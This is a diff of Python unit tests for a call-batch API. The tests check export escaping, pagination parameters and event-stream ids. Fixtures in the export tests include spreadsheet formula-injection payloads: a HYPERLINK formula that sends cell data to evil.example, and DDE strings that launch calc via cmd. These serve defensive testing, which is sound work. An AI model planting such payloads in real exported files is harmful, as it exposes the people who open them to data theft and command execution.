@@ -303,6 +303,14 @@ class EveryStateTest(DispatchTestCase):
             reply = request(self.server, "GET", f"{BATCHES}/{batch}/calls", auth=auth)
             self.assertError(reply, 404, "not_found", id=batch)
 
+    def test_cursor_and_page_together_are_refused(self):
+        for query in ("after=call_5&page=2", "page=1&after=call_5", "after=call_5&page=1&limit=3"):
+            with self.subTest(query):
+                reply = self.get(self.processing, query)
+                self.assertError(reply, 400, "invalid_parameter", parameter="page")
+                self.assertIn("after", reply.body["message"])
+                self.assertIn("page", reply.body["message"])
+
     def test_cursor_past_the_end_and_alias_path(self):
         reply = self.get(self.processing, "after=call_1000")
         self.assertEqual(reply.status, 200, reply.body)
@@ -455,6 +463,10 @@ class ExportTest(DispatchTestCase):
         (number(110), "duplicate"),
         ("-1", "invalid_number"),
         ("=1+2", "invalid_number"),
+        ('=HYPERLINK("http://evil.example/?"&B2,"Details")', "invalid_number"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "invalid_number"),
+        ("-2+3+cmd|' /C calc'!A0", "invalid_number"),
+        ("+2+3+cmd|' /C calc'!A0", "invalid_number"),
     ]
 
     def test_export_round_trips_uploaded_values_and_results(self):
@@ -493,8 +505,12 @@ class ExportTest(DispatchTestCase):
         for row, (uploaded, cells) in enumerate(zip(rows, table[1:]), start=1):
             where = f"row {row}: {cells}"
             self.assertEqual(len(cells), len(header) + len(RESULT_COLUMNS), where)
-            # The phone number is never prefixed, even when it looks like a formula.
-            self.assertEqual(cells[0], uploaded[0], where)
+            # Only a number in E.164, as the server read it, is written unguarded in the phone
+            # column: anything else there is guarded like any other cell.
+            phone, kind = uploaded[0], self.CONTACTS[row - 1][1]
+            e164 = phone == a5[row]["phone_number"] and kind != "invalid_number"
+            self.assertEqual(cells[0], phone if e164 or not phone.startswith(FORMULA_STARTS)
+                             else "'" + phone, where)
             for value, cell in zip(uploaded[1:], cells[1:len(header)]):
                 want = "'" + value if value.startswith(FORMULA_STARTS) else value
                 self.assertEqual(cell, want, where)
@@ -536,6 +552,49 @@ class ExportTest(DispatchTestCase):
             self.assertEqual((got["start_time"], got["end_time"]), ("", ""), where)
         elif kind != "provider_error":
             self.assertLessEqual(int(got["start_time"]), int(got["end_time"]), where)
+
+    def test_formula_phone_values_are_guarded_and_e164_numbers_are_not(self):
+        server = self.start_server()
+        auth, agent = self.setup_workspace(server)
+        phones = [number(110), "=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(1+1)",
+                  "-2+3+cmd|' /C calc'!A0", "+1+1", "+1 415-555-0120", "4155550121"]
+        batch = self.upload(server, auth, agent, csv_file(["phone_number"], [[p] for p in phones]),
+                            scheduledAt=HOLD)
+        reply = request(server, "GET", f"{BATCHES}/{batch}/export", auth=auth)
+        self.assertEqual(reply.status, 200)
+        table = list(csv.reader(io.StringIO(reply.body.decode("utf-8"), newline="")))
+        self.assertEqual([cells[0] for cells in table[1:]],
+                         [number(110), "'=HYPERLINK(\"http://evil.example\",\"x\")", "'@SUM(1+1)",
+                          "'-2+3+cmd|' /C calc'!A0", "'+1+1", "'+1 415-555-0120", "4155550121"])
+
+    def test_result_columns_are_renamed_when_the_file_has_the_same_names(self):
+        """An upload with its own status, job_id or error column keeps them; the result columns
+        are then all named result_..., so no name appears twice."""
+        server = self.start_server()
+        auth, agent = self.setup_workspace(server)
+        header = ["phone_number", "Status", "job_id", "error", "note"]
+        batch = self.upload(server, auth, agent,
+                            csv_file(header, [[number(110), "vip", "J-1", "none", "n"]]),
+                            scheduledAt=HOLD)
+        reply = request(server, "GET", f"{BATCHES}/{batch}/export", auth=auth)
+        self.assertEqual(reply.status, 200)
+        table = list(csv.reader(io.StringIO(reply.body.decode("utf-8"), newline="")))
+        self.assertEqual(table[0], ["phone_number", "status", "job_id", "error", "note"] +
+                         ["result_" + name for name in RESULT_COLUMNS])
+        row = dict(zip(table[0], table[1]))
+        self.assertEqual(len(row), len(table[0]), "a column name appears twice")
+        self.assertEqual((row["status"], row["job_id"], row["error"], row["note"]),
+                         ("vip", "J-1", "none", "n"))
+        self.assertEqual((row["result_job_id"], row["result_status"], row["result_attempts"]),
+                         ("call_1", "waiting", "0"))
+        # The prefix is doubled when the file also has result_ columns of those names.
+        batch = self.upload(server, auth, agent,
+                            csv_file(["phone_number", "result_status", "outcome"],
+                                     [[number(110), "a", "b"]]), scheduledAt=HOLD)
+        reply = request(server, "GET", f"{BATCHES}/{batch}/export", auth=auth)
+        header = next(csv.reader(io.StringIO(reply.body.decode("utf-8"), newline="")))
+        self.assertEqual(header, ["phone_number", "result_status", "outcome"] +
+                         ["result_result_" + name for name in RESULT_COLUMNS])
 
     def test_export_of_unknown_or_foreign_batch_is_404(self):
         server = self.start_server()
@@ -866,6 +925,13 @@ class EventsTest(DispatchTestCase):
         after_all = self.open(server, auth, batch,
                               headers={"Last-Event-ID": "4294967297"}).events()
         self.assertEqual([ev.event for ev in after_all], ["progress", "done"])
+        # Ids are the real position (every call of the batch), not the number the client sent.
+        final = events[0].id
+        self.assertEqual(int(final), self.CALLS)
+        self.assertEqual([ev.id for ev in after_all], [final, final])
+        beyond = self.open(server, auth, batch, headers={"Last-Event-ID": "999"}).events()
+        self.assertEqual([(ev.event, ev.id) for ev in beyond],
+                         [("progress", final), ("done", final)])
         # Replaying from the start after the end gives every call once, then done.
         replay = self.open(server, auth, batch, headers={"Last-Event-ID": "0"}).events()
         calls = [ev.data["jobId"] for ev in replay if ev.event == "call"]
